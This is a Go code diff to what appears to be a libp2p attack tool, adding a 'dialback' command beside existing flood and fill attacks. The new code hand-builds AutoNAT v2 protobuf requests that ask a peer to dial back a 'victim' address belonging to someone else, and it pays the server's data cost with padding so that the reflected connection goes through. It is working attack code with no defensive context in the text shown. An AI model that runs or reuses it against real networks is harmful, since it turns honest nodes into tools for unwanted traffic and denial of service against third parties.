@@ -191,6 +191,79 @@ func grow(node host.Host) {
 	}
 }
 
+// Of AutoNAT's messages.
+const (
+	dialRequest, dialResponse, dataRequest, dataResponse = 1, 2, 3, 4
+	requestAddrs, requestNonce                           = 1, 2
+	responseStatus                                       = 3
+	requestedBytes                                       = 2
+)
+
+// A field of a message, as bytes or as a number.
+func read(message []byte, wanted protowire.Number) (inner []byte, value uint64) {
+	for len(message) > 0 {
+		number, kind, n := protowire.ConsumeTag(message)
+		if n < 0 {
+			return
+		}
+		message = message[n:]
+		if number == wanted && kind == protowire.BytesType {
+			inner, _ = protowire.ConsumeBytes(message)
+		} else if number == wanted && kind == protowire.VarintType {
+			value, _ = protowire.ConsumeVarint(message)
+		}
+		if n = protowire.ConsumeFieldValue(number, kind, message); n < 0 {
+			return
+		}
+		message = message[n:]
+	}
+	return
+}
+
+// Asks to be dialled back at an address that is somebody else's, and pays what that costs: what
+// came of it, as AutoNAT's status.
+func dialBack(ctx context.Context, node host.Host, to peer.ID, victim string) (uint64, error) {
+	addr, err := multiaddr.NewMultiaddr(victim)
+	if err != nil {
+		return 0, err
+	}
+	stream, err := node.NewStream(ctx, to, "/libp2p/autonat/2/dial-request")
+	if err != nil {
+		return 0, err
+	}
+	defer stream.Reset()
+	request := field(nil, requestAddrs, addr.Bytes())
+	request = protowire.AppendTag(request, requestNonce, protowire.Fixed64Type)
+	request = protowire.AppendFixed64(request, 1)
+	if err := send(stream, field(nil, dialRequest, request)); err != nil {
+		return 0, err
+	}
+	reader := bufio.NewReader(stream)
+	for {
+		size, err := binary.ReadUvarint(reader)
+		if err != nil {
+			return 0, err
+		}
+		message := make([]byte, min(size, 1<<16))
+		if _, err := io.ReadFull(reader, message); err != nil {
+			return 0, err
+		}
+		if asked, _ := read(message, dataRequest); asked != nil {
+			_, count := read(asked, requestedBytes)
+			for sent := uint64(0); sent < count; sent += 4096 {
+				data := field(nil, dataResponse, field(nil, 1, make([]byte, 4096)))
+				if err := send(stream, data); err != nil {
+					return 0, err
+				}
+			}
+			continue
+		}
+		response, _ := read(message, dialResponse)
+		_, status := read(response, responseStatus)
+		return status, nil
+	}
+}
+
 func attack(ctx context.Context, node host.Host, words []string) error {
 	var count, size int
 	if len(words) > 2 {
@@ -231,6 +304,13 @@ func attack(ctx context.Context, node host.Host, words []string) error {
 		} else {
 			say("flooded", opened)
 		}
+		return nil
+	case "dialback":
+		status, err := dialBack(ctx, node, to, words[2])
+		if err != nil {
+			return err
+		}
+		say("answered", status)
 		return nil
 	case "fill":
 		say("filled", fill(ctx, node, to, count, size))
